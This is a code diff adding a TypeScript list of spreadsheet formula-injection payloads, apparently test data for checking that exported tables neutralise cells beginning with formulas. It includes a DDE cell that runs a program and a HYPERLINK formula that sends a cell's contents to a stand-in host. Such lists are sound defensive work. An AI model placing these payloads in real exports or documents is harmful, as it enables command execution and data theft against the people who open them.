@@ -1,0 +1,22 @@
+/** Cells that a spreadsheet would run, by the text an article or a row can bring into a table that is taken away. */
+export const FORMULAS: [what: string, cell: string][] = [
+  ['a call of a program', "=cmd|' /C calc'!A0"],
+  ['a sum', '+1+1'],
+  ['a difference', '-2+3+cmd'],
+  ['an old form of function', '@SUM(A1:A9)'],
+  ['a link that sends what is in the table', '=HYPERLINK("https://x.example/?"&A1,"click")'],
+  ['a formula behind a tab', '\t=1+1'],
+  ['a formula behind a carriage return', '\r=1+1'],
+  ['a formula behind a line feed', '\n=1+1'],
+  ['a formula behind spaces', '  =1+1'],
+  ['a formula behind a space that does not break', '\u00a0=1+1'],
+  ['a formula behind a byte order mark', '\ufeff=1+1'],
+  ['a formula behind a zero-width space', '\u200b=1+1'],
+  ['a formula behind a control character', '\u0000=1+1'],
+  ['a formula in wide signs', '＝1+1'],
+  ['a formula in wide signs of adding', '＋1＋1'],
+  ['a formula behind a quote', '"=1+1'],
+  ['a formula in a second line of the cell', 'a\r\n=1+1'],
+  ['a formula behind a comma', 'a,=1+1'],
+  ['a formula behind a semicolon', ';=1+1'],
+];
